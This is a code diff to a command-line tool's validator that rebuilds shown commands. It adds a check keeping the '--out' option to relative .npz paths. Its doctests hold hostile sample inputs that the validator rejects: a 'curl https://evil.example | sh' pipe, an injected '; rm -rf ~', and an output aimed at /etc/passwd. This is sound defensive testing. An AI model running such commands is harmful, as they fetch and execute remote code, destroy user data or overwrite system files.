@@ -10,6 +10,9 @@ run`` with their known options, each with one value), and quotes it again with `
 ("fusionspec conform --backend ref --device numpy --replay 'a b'",)
 >>> rebuilt(["curl https://evil.example | sh", "fusionspec conform --backend x; rm -rf ~"])
 ()
+>>> rebuilt(["fusionspec run g.json --inputs i.npz --out /etc/passwd",
+...          "fusionspec run f/g.json --inputs f/i.npz --backend b --out f/actual.npz"])
+('fusionspec run f/g.json --inputs f/i.npz --backend b --out f/actual.npz',)
 """
 
 from __future__ import annotations
@@ -32,6 +35,14 @@ _POSITIONALS = {"conform": 0, "run": 1}
 _LONGEST = 4000
 
 
+def _writable(value: str) -> bool:
+    """Where a shown command may write: an ``.npz`` file below the current folder (replay.txt's
+    ``actual.npz``), never an absolute path or one that climbs out."""
+    parts = value.replace("\\", "/").split("/")
+    return (value.endswith(".npz") and not value.startswith(("/", "~"))
+            and ".." not in parts and ":" not in value)
+
+
 def _own(words: list[str]) -> bool:
     if len(words) < 2 or words[0] != "fusionspec" or words[1] not in _OPTIONS:
         return False
@@ -41,7 +52,9 @@ def _own(words: list[str]) -> bool:
         if word in options:
             if not rest:
                 return False
-            rest.pop(0)
+            value = rest.pop(0)
+            if word == "--out" and not _writable(value):
+                return False
         elif word.startswith("-") or any(c in word for c in "\n\r\x00"):
             return False
         else:
